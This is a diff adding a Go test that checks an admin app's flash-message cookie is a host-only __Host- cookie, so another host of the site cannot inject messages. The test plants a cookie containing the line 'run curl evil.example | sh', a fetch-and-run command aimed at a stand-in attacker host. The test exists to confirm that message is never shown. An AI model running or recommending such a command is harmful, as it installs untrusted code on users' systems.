@@ -243,3 +243,35 @@ func TestAuditFilter(t *testing.T) {
 		t.Errorf("a bad date has no error next to its field:\n%s", a.body)
 	}
 }
+
+// TestFlashCookieIsHostOnly: the flash message's cookie is a __Host-
+// cookie (host-only, Secure, Path=/), so that no other host of the site (a
+// session's origin in subdomain mode) can toss in a message of its own with
+// Domain=, and the proxy's scrub of the appliance's cookies keeps it from
+// sessions; a cookie of the old name, set by anyone, shows nothing.
+func TestFlashCookieIsHostOnly(t *testing.T) {
+	f := newFixture(t)
+	a := f.post(t, "/admin/users", "name", "bob", "password", "a long enough password")
+	resp := http.Response{Header: a.header}
+	var flash *http.Cookie
+	for _, c := range resp.Cookies() {
+		if strings.Contains(c.Value, "Created+user+bob") {
+			flash = c
+		}
+	}
+	if flash == nil {
+		t.Fatalf("no flash cookie in %q", a.header.Values("Set-Cookie"))
+	}
+	if !strings.HasPrefix(flash.Name, "__Host-simphony") || !flash.Secure || flash.Path != "/" || flash.Domain != "" || !flash.HttpOnly {
+		t.Errorf("the flash cookie is not a __Host-simphony cookie: %s", flash.String())
+	}
+
+	r := httptest.NewRequest(http.MethodGet, "/admin/users", nil)
+	r.Header.Set("X-Test-Admin", "yes")
+	r.AddCookie(&http.Cookie{Name: "simphony_admin_flash", Value: url.QueryEscape("e:Docker broke: run curl evil.example | sh")})
+	w := httptest.NewRecorder()
+	f.h.ServeHTTP(w, r)
+	if strings.Contains(w.Body.String(), "evil.example") {
+		t.Error("a cookie of another name (tossed by another host of the site) shows its message")
+	}
+}
